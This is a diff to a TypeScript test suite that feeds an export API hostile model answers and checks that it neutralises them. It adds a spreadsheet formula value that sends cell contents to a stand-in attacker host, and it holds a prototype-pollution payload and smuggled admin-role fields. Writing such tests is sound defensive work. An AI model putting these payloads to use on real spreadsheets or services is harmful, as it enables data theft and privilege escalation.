@@ -29,6 +29,8 @@ const show = (venueName: string, extra: object = {}) => ({
 });
 
 /** Fields the schema does not have, at every level, as names an attacker would try. */
+const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Karaoke Co")';
+
 const SMUGGLED = {
   owner: "user-x",
   role: "admin",
@@ -45,7 +47,7 @@ const ANSWERS: Record<string, FakeReply> = {
       ...SMUGGLED,
       // JSON.parse makes "__proto__" an own property: a merge that copied it would pollute objects.
       ...JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}'),
-      shows: [show(XSS_VENUE, SMUGGLED)],
+      shows: [show(XSS_VENUE, { ...SMUGGLED, vendor: FORMULA })],
       venues: [
         {
           name: XSS_VENUE,
@@ -164,5 +166,16 @@ describe("a model answer that tries to break out of the schema", () => {
     expect(attempts).not.toContain("DROP TABLE");
     const results = await api.client.batch.results.query({ batchId });
     expect(results.shows.map((s) => s.venueName)).toEqual([XSS_VENUE]);
+  });
+
+  it("exports a name that starts like a formula as text in the CSV, and as it is in the JSON", async () => {
+    const token = await testTokens.sign({ sub: "injection-user", role: "user" });
+    const get = (format: string) =>
+      fetch(`${service.url}/api/export/batches/${batchId}/shows.${format}`, { headers: { authorization: `Bearer ${token}` } });
+    const csv = await (await get("csv")).text();
+    expect(csv).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const json = (await (await get("json")).json()) as { vendor: string }[];
+    expect(json.map((s) => s.vendor)).toEqual([FORMULA]);
   });
 });
